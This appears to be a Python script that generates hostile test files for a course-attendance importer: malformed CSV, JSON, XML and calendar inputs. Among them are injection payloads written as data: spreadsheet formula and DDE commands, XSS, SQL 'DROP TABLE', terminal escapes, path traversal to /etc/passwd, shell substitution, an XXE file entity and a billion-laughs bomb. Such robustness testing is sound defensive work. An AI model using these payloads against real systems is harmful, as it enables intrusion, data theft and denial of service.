"""Hostile tables, JSON, XML and calendars."""

from recipes import HEAD, add, row

GOOD_ROW = row(joined="2026-03-02T10:05:00Z")

# Bytes that are no text.
add("nul-byte.csv", "a zero byte in a cell", HEAD + GOOD_ROW + row(person="L-0\0"))
add("unclosed-quote.csv", "a quote that would swallow 50 lines",
    HEAD + GOOD_ROW + 'S-1,"L-02,remote,2026-03-02T10:00:00Z,2026-03-02T11:00:00Z\n'
    + GOOD_ROW * 50)
add("newline-in-quote.csv", "a line break in a cell, so that later lines are counted wrongly",
    HEAD + 'S-1,"L\r\n02",remote,2026-03-02T10:00:00Z,2026-03-02T11:00:00Z\n' + row(left="bad"))
add("text-after-quote.csv", "a quote closed too early", HEAD + row(person='"L"-02'))
add("mixed-encodings.csv", "UTF-8 and Windows-1252 in one file",
    (HEAD + row(person="Siân")).encode() + row(person="Siân").encode("cp1252"))
add("undefined-byte.csv", "a byte that Windows-1252 leaves undefined",
    HEAD.encode() + row(person="Si\u00e2n").encode("cp1252") * 3 + b"S-1,L\x81,remote,,\n")
add("utf-8-surrogate.csv", "half of a surrogate pair written as UTF-8",
    (HEAD + row(person="éééé")).encode() + b"S-1,L\xed\xa0\x80,remote,2026-03-02T10:00:00Z,\n")
add("utf-8-overlong.csv", "a slash written as two bytes, which no UTF-8 allows",
    (HEAD + row(person="éé")).encode() + b"S-1,..\xc0\xaf..,remote,2026-03-02T10:00:00Z,\n")
add("utf-16-surrogate.csv", "half of a surrogate pair in UTF-16",
    b"\xff\xfe" + (HEAD + row(person="L")).encode("utf-16-le").replace(
        "L,".encode("utf-16-le"), b"\x00\xd8,\x00"))
add("utf-16-cut.csv", "UTF-16 cut in the middle of a unit",
    b"\xff\xfe" + (HEAD + row()).encode("utf-16-le")[:-1])
add("utf-32.csv", "UTF-32, which looks like UTF-16 with zeros", (HEAD + row()).encode("utf-32"))
add("two-marks.csv", "two byte order marks", b"\xef\xbb\xbf\xef\xbb\xbf" + (
    HEAD + row(left="2026-03-02T09:00:00Z")).encode())
add("mark-only.csv", "nothing but a byte order mark", b"\xef\xbb\xbf")
add("empty.csv", "no bytes at all", b"")
add("lone-cr.csv", "carriage returns alone as line ends",
    (HEAD + GOOD_ROW + row(mode="online")).replace("\n", "\r"))
add("mixed-line-ends.csv", "three kinds of line ends in one file",
    HEAD.replace("\n", "\r\n") + GOOD_ROW.replace("\n", "\r") + row(mode="online"))
add("vertical-tab.csv", "line ends that only some programs know",
    HEAD + row(person="L-02\u2028").rstrip("\n") + "\x0b" + row())

# Tables of strange shape.
add("duplicate-header.csv", "a column that stands twice, of which one would be dropped",
    HEAD.replace("\n", ",mode\n") + row().replace("\n", ",in_person\n"))
add("more-cells.csv", "a cell more than there are columns", HEAD + row().replace("\n", ",x\n"))
add("fewer-cells.csv", "a row cut short", HEAD + "S-1,L-02\n")
add("huge-cell.csv", "a cell of 100,000 letters", HEAD + row(person="A" * 100_000))
add("thousand-cells.csv", "1,000 cells in one row", HEAD + row().replace("\n", "," * 1000 + "x\n"))
add("million-columns.csv", "a header of 1,000,000 columns",
    lambda: b"session_id," + b",".join(b"c%d" % n for n in range(1_000_000)) + b",10:30\n", big=True)
add("line-of-200-mb.csv", "one cell of 200,000,000 bytes",
    lambda: HEAD.encode() + b"S-1," + b"A" * 200_000_000 + b",remote,2026-03-02T10:00:00Z,\n", big=True)
add("million-quotes.csv", "1,000,000 quotes, each of which may open a cell",
    lambda: HEAD.encode() + b'"a\n' * 500_000 + b'"' * 500_000, big=True)
add("million-delimiters.tsv", "1,000,000 short rows of nothing but delimiters",
    lambda: HEAD.encode() + b",,,,\n" * 200_000 + row(mode="online").encode(), big=True)
add("million-faults.csv", "300,000 rows, each with a reason of its own not to count",
    lambda: HEAD.encode() + row(mode="online").encode() * 300_000, big=True)
add("two-tables.csv", "a header that fits two tables",
    "session_id,person_id,mode,joined_at,left_at,mark,minutes,marked_by\n"
    "S-2,L-02,remote,2026-03-09T10:00:00Z,2026-03-09T11:00:00Z,present,,T-01\n")
add("sparse.csv", "a file that says it has 3 GB, and has none",
    lambda path: open(path, "wb").truncate(3 << 30), big=True)

# Times and numbers.
for name, attacks, cells in (
        ("30-february", "a day that no calendar has", dict(joined="2026-02-30T10:00:00Z")),
        ("year-9999", "a year beyond every limit", dict(joined="9999-12-31T23:59:59Z")),
        ("year-0", "a year before every limit", dict(joined="0000-01-01T00:00:00Z")),
        ("hour-24", "an hour that no clock shows", dict(joined="2026-03-02T24:30:00Z")),
        ("leap-second", "a leap second that never was", dict(joined="2026-03-02T10:59:60Z",
                                                             left="2026-03-02T10:59:59Z")),
        ("clocks-forward", "a local time that the clocks skipped",
         dict(joined="2026-03-29T01:30:00", left="2026-03-29T03:00:00")),
        ("leaves-before-joining", "a stay of less than nothing", dict(left="2026-03-02T09:00:00Z")),
        ("offset-99", "an offset that no zone has", dict(joined="2026-03-02T10:00:00+99:59")),
        ("trailing-junk", "a time with more behind it",
         dict(joined="2026-03-02T10:00:00Z; DROP TABLE course")),
        ("full-width-digits", "digits of another script", dict(joined="２０２６-03-02T10:00:00Z")),
        ("epoch-overflow", "a number of seconds beyond 64 bits",
         dict(joined="99999999999999999999999"))):
    add(f"{name}.csv", attacks, HEAD + row(**cells))
add("day-or-month-first.csv", "dates that may be read in two ways",
    HEAD + row(joined="02/03/2026 10:00", left="02/03/2026 11:00"))
add("both-orders.csv", "dates that no one order reads",
    HEAD + row(joined="13/03/2026 10:00", left="13/03/2026 11:00")
    + row(joined="03/13/2026 10:00", left="03/13/2026 11:00"))
STUDY = "course_id,person_id,activity,minutes\nC-1,L-01,self_study,"
CLAIM = "course_id,kind,hours\nC-1,guided_hours,"
add("minutes-negative.csv", "study of less than nothing", STUDY + "-30\n")
add("minutes-overflow.csv", "minutes beyond 64 bits", STUDY + "9" * 30 + "\n")
add("minutes-of-a-megabyte.csv", "a number of 60,000 digits", STUDY + "1" * 60_000 + "\n")
add("hours-infinite.csv", "hours that a floating point reader takes for infinity",
    CLAIM + "1e999\n")
add("hours-nan.csv", "hours that are no number", CLAIM + "nan\n")

# What stands in cells attacks whoever shows it.
for name, attacks, text in (
        ("formula", "a spreadsheet", '"=HYPERLINK(""http://example.org/?""&A1,""ok"")"'),
        ("formula-dde", "a spreadsheet", "=cmd|' /C calc'!A0"),
        ("script", "a browser", "<script>alert(1)</script>"),
        ("image", "a browser", '"""><img src=x onerror=alert(1)>"'),
        ("sql", "a database", "L-01'); DROP TABLE course;--"),
        ("escape-sequence", "a terminal", "\x1b]0;owned\x07\x1b[2J\x1b[31m"),
        ("right-to-left", "an eye", "\u202Egpj.exe\u2066"),
        ("zero-width", "an eye", "L-\u200b01"),
        ("path", "a file system", "../../../etc/passwd"),
        ("format-string", "a C library", "%s%n%x$(touch evil)`touch evil`"),
        ("many-marks", "a font", "L" + "\u0301" * 500)):
    add(f"id-{name}.csv", f"{attacks}, by the id of a session", HEAD + row(session=text))

# Definitions that contradict what is known.
add("courses2.csv", "another course under an id that stands already",
    "course_id,title,starts_on\nC-1,Another,2020-01-01\n")
add("people2.csv", "a learner who makes himself a tutor",
    "course_id,person_id,role\nC-1,L-01,tutor\n")
add("sessions2.csv", "parts of one session on top of one another",
    "session_id,course_id,starts_at,ends_at,activity,mode,tutor_ids\n"
    "S-1,C-1,2026-03-02T10:30:00Z,2026-03-02T11:30:00Z,teaching,remote,T-01\n")
add("sessions-in-circles.csv", "a session that begins after it ends",
    "session_id,course_id,starts_at,ends_at,activity,mode\n"
    "S-9,C-1,2026-03-02T11:00:00Z,2026-03-02T10:00:00Z,teaching,remote\n")
add("zone-of-nowhere.csv", "a time zone that is a path",
    "course_id,title,starts_on,time_zone\nC-2,Another,2026-03-02,../../etc/passwd\n")
add("reading-of-nothing.csv", "a decision with a word that is none",
    "path,date_order\n../../etc/passwd,backwards\n")
add("mark-map-in-circles.csv", "a mark that means itself",
    "register,code,mark,minutes\n*,/,/,\n")

# JSON.
STATEMENT = ('{"id":"1","actor":{"mbox":"mailto:tegan.marwick@example.org"},"verb":{"id":"http://activitystrea.ms/'
             'schema/1.0/join"},"object":{"id":"http://example.org/S-1","definition":{"type":"http://adlnet.gov/'
             'expapi/activities/meeting","name":{"en":"Helping Skills"}}},"timestamp":"2026-03-02T10:00:00Z"}')
add("deep.json", "100,000 lists inside one another",
    "[" + STATEMENT[:-1] + ',"context":' + "[" * 100_000 + "]" * 100_000 + "}]")
add("repeated-key.json", "a key that stands twice, of which the last would win",
    "[" + STATEMENT[:-1] + ',"actor":{"mbox":"mailto:kofi.ashgrove@example.org"}}]')
add("cut.json", "a list that is cut off", "[" + STATEMENT + "," + STATEMENT[:60])
add("nul.json", "a zero byte between values", "[" + STATEMENT.replace(",", ",\0", 1) + "]")
add("surrogate.json", "half of a surrogate pair, escaped",
    "[" + STATEMENT.replace('"id":"1"', '"id":"\\ud800"') + "]")
add("number.json", "a number beyond every type",
    "[" + STATEMENT[:-1] + ',"result":{"score":{"raw":1e999999}}}]')
add("rescanned.json", "a broken record with 20,000 places where the next one might begin",
    lambda: ("[" + STATEMENT[:-1] + ',"x":[1' + ',{"a":[1' * 20_000 + "\n]").encode())

# XML.
MEETING = ('<recording meeting_id="183f0bf3a0982a127bdb8161e0c44eb696b3e75c-1790010000000">'
           '<meeting name="Helping Skills"/>%s</recording>')
LAUGHS = "<!DOCTYPE recording [<!ENTITY a \"ha\">" + "".join(
    f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9)) + "]>"
add("laughs.xml", "a billion laughs: entities that unfold", LAUGHS + MEETING % "&j;")
add("entity-of-a-file.xml", "an entity that names a file of the machine",
    '<!DOCTYPE recording [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + MEETING % "&x;")
add("remote-doctype.xml", "a document type from the network",
    '<!DOCTYPE recording SYSTEM "http://example.org/x.dtd">' + MEETING % "")
add("undeclared-entity.xml", "an entity that is not declared", MEETING % "<event>&nothing;</event>")
add("deep.xml", "100,000 elements inside one another",
    MEETING % ("<a>" * 100_000 + "</a>" * 100_000))
add("long-attribute.xml", "an attribute of 2,000,000 bytes",
    lambda: (MEETING % ("<event name=\"" + "a" * 2_000_000 + "\"/>")).encode())
add("long-text.xml", "a text of 5,000,000 bytes",
    lambda: (MEETING % ("<event><name>" + "a" * 5_000_000 + "</name></event>")).encode())
add("unclosed.xml", "an element that nothing closes", (MEETING % "<event>")[:-12])
add("encoding-of-nobody.xml", "an encoding that nobody has",
    '<?xml version="1.0" encoding="x-none"?>' + MEETING % "")
add("attribute-twice.xml", "an attribute that stands twice", MEETING % '<event a="1" a="2"/>')

# Calendars.
def event(*lines):
    return ("BEGIN:VCALENDAR\r\nVERSION:2.0\r\nBEGIN:VEVENT\r\nUID:1\r\nSUMMARY:C-1\r\nLOCATION:online\r\n"
            + "\r\n".join(lines) + "\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n")


START, END = "DTSTART:20260316T100000Z", "DTEND:20260316T110000Z"
add("endless.ics", "an event that recurs for ever", event(START, END, "RRULE:FREQ=DAILY"))
add("billion-times.ics", "an event that recurs 1,000,000,000 times",
    event(START, END, "RRULE:FREQ=DAILY;COUNT=1000000000"))
add("interval-0.ics", "an event that recurs every 0 days",
    event(START, END, "RRULE:FREQ=DAILY;INTERVAL=0;COUNT=5"))
add("every-second.ics", "an event that recurs every second",
    event(START, END, "RRULE:FREQ=SECONDLY;COUNT=100"))
add("ends-first.ics", "an event that ends before it starts", event(START, "DTEND:20260316T090000Z"))
add("duration-negative.ics", "an event of less than nothing", event(START, "DURATION:-PT1H"))
add("duration-overflow.ics", "an event of more seconds than 64 bits hold",
    event(START, "DURATION:P99999999999999999999W"))
add("zone-of-nowhere.ics", "an event in a zone that is none",
    event("DTSTART;TZID=/dev/zero:20260316T100000", END))
add("not-ended.ics", "an event without its end", event(START, END).split("END:VEVENT")[0])
add("many-dates.ics", "50,000 further times of one event",
    lambda: event(START, END, "RDATE:" + ",".join(
        f"202603{17 + n % 10}T{n // 10 % 24:02}{n // 240 % 60:02}{n // 14400 % 60:02}Z"
        for n in range(50_000))).encode())
